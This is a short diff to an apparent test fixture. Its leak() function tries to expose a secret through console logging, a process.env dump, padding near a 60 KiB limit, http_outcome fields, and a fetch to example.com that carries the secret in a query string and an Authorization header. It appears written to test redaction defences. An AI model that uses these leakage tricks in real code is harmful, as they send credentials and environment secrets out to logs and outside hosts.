@@ -19,7 +19,7 @@ export async function leak() {
   console.log({ secret, nested: [secret] });
   console.log("%j", { secret });
   console.log("env", process.env);
-  console.log("x".repeat(65_530) + secret);
+  console.log("x".repeat(60 * 1024 - 5) + secret);
   try { http_outcome({ status_code: ("z".repeat(30) + secret) as never }); } catch (e) { console.log((e as Error).message); }
   http_outcome({ body: new Uint8Array([0xff, ...new TextEncoder().encode(secret)]), more: true });
   try { await fetch("https://example.com/x?key=" + secret, { headers: { Authorization: "Basic " + btoa("user:" + secret.replace(/[^\x00-\xff]/g, "")) } }); } catch {}
